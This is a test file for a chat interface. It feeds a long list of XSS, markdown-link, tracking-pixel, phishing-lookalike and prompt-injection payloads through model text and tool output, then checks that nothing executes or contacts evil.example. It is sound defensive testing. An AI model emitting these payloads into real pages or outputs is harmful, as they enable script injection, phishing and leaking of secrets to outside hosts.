import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { tool } from '../support/detent.ts';
import { inSizes } from '../support/size.ts';
import { say, story } from './chat-support.ts';
import { servedPage, visit } from './support.ts';

const injections = JSON.parse(
  readFileSync(new URL('../fixtures/security/prompt-injection.json', import.meta.url), 'utf8'),
) as { text: string }[];

const places = inSizes({ usual: 5, deep: 20, full: 30 });
/** How deep the nested ones go. */
const depth = inSizes({ usual: 300, deep: 2_000, full: 2_000 });

/** What would run a script or tell a foreign server, if the page took it for more than text. */
const hostile = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1"/></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<a href="javascript:window.hacked = 1">html link</a>',
  '<style>@import "https://evil.example/a.css"; body { background: url(https://evil.example/b.png) }</style>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<details open ontoggle="window.hacked = 1"><summary>x</summary></details>',
  '<form action="https://evil.example/"><button>go</button></form>',
  '[click](javascript:window.hacked=1)',
  '[click](JaVaScRiPt:window.hacked=1)',
  '[click](&#106;avascript:window.hacked=1)',
  '[click](java\tscript:window.hacked=1)',
  '[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)',
  '[click](<javascript:window.hacked=1>)',
  '[click]( "onclick=window.hacked=1)',
  '[ref]\n\n[ref]: javascript:window.hacked=1',
  '![pixel](https://evil.example/pixel.png?q=secret)',
  '![pixel][p]\n\n[p]: https://evil.example/p.png',
  '![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhhY2tlZD0xIi8+)',
  '![x](x" onerror="window.hacked=1)',
  '<https://evil.example/auto>',
  '<javascript:window.hacked=1>',
  'https://evil.example/bare www.evil.example',
  '`<img src=x onerror=window.hacked=1>`',
  '```html\n<script>window.hacked = 1</script>\n```',
  '```<img src=x onerror=window.hacked=1>\ncode\n```',
  '| <script>window.hacked=1</script> | [x](javascript:window.hacked=1) |\n| --- | --- |\n| <img src=x onerror=window.hacked=1> | ![i](https://evil.example/t.png) |',
  '> <script>window.hacked=1</script>\n> - [x](vbscript:x)',
  '[bank.example](https://evil.example/login)',
  '[https://bank.example/login](https://bank.example@evil.example/)',
  '\u202e[gro.elpmaxe](https://evil.example/bidi)',
  '[[[[[nested](javascript:window.hacked=1)](https://evil.example)](javascript:window.hacked=1)',
  '**[*<b onmouseover=window.hacked=1>x</b>*](javascript:window.hacked=1)**',
  '&lt;script&gt;window.hacked=1&lt;/script&gt;',
  '\u0000\uFFFD<scr\u0000ipt>window.hacked=1</scr\u0000ipt>',
  '__proto__ constructor {{constructor.constructor("window.hacked=1")()}} #{window.hacked=1}',
  '> '.repeat(depth),
  '['.repeat(2 * depth),
  '- '.repeat(depth),
  ...injections.map(({ text }) => text),
];

it('takes nothing that a model, a tool or a person wrote for more than text', async () => {
  const text = hostile.join('\n\n');
  const shows = tool('shows', { run: () => text });
  const rows = tool('rows', {
    run: () => JSON.stringify(hostile.map((one) => ({ [one.slice(0, 60)]: one, n: 1 })).slice(0, 4)),
  });
  const gateway = await servedPage(
    [
      {
        text,
        reasoning: text,
        toolCalls: [
          { name: 'shows', arguments: { text } },
          { name: 'rows', arguments: text },
        ],
      },
      ...hostile
        .map((one) => ({ text: `So: ${one}`, toolCalls: [{ name: 'shows', arguments: { one } }] }))
        .slice(0, 3),
      { text: 'That was all.' },
    ],
    { tools: { define: [shows, rows] } },
  );
  const { page, context, requests } = await visit(gateway);
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await say(page, hostile.slice(0, 20).join('\n\n'));
  await story(page).getByText('That was all.').waitFor();
  // Through all of it, with all that folds opened.
  for (let at = 0; at < places; at++) {
    await page.evaluate(
      (place) => {
        const scroller = document.querySelector('section.scroller');
        scroller?.scrollTo(0, scroller.scrollHeight * place);
      },
      at / (places - 1),
    );
    await page.waitForTimeout(30);
    await story(page)
      .locator('summary, .tool-head[aria-expanded="false"]')
      .evaluateAll((folds) => {
        for (const fold of folds as HTMLElement[]) fold.click();
      });
    // What opened is drawn by the next frame.
    await page.evaluate(() => new Promise(requestAnimationFrame));
    const found = await page.evaluate(() => ({
      hacked: 'hacked' in window,
      elements: document.querySelectorAll(
        '.md :is(script, iframe, img, style, form, svg, base, meta, object, embed), section.scroller img',
      ).length,
      links: [...document.querySelectorAll<HTMLAnchorElement>('.md a')].map((a) =>
        [new URL(a.href).protocol, a.target, a.rel].join(' '),
      ),
      handlers: [...document.querySelectorAll('.md *')]
        .flatMap((one) => one.getAttributeNames())
        .filter((name) => name.startsWith('on')),
    }));
    expect(found.hacked).toBe(false);
    expect(found.elements).toBe(0);
    expect(found.handlers).toEqual([]);
    for (const link of found.links) expect(link).toMatch(/^(?:https?|mailto): _blank noopener noreferrer$/);
  }
  expect(dialogs).toEqual([]);
  expect(context.pages()).toHaveLength(1);
  expect(requests.filter((address) => address.includes('evil.example'))).toEqual([]);
});

it('says where a link leads whose words name another place, and loads an image only elsewhere', async () => {
  const gateway = await servedPage([
    {
      text: '[bank.example](https://evil.example/login) ![shelf](https://evil.example/a.png) [fine](https://a.example/)',
    },
  ]);
  const { page } = await visit(gateway);
  await say(page, 'Show me.');
  await story(page).getByText('(evil.example)').waitFor();
  await story(page).getByRole('button', { name: 'Load image' }).click();
  const link = story(page).getByRole('link', { name: 'Open it at evil.example, in a new tab' });
  expect(await link.getAttribute('target')).toBe('_blank');
  expect(await story(page).getByText('(a.example)').count()).toBe(0);
});
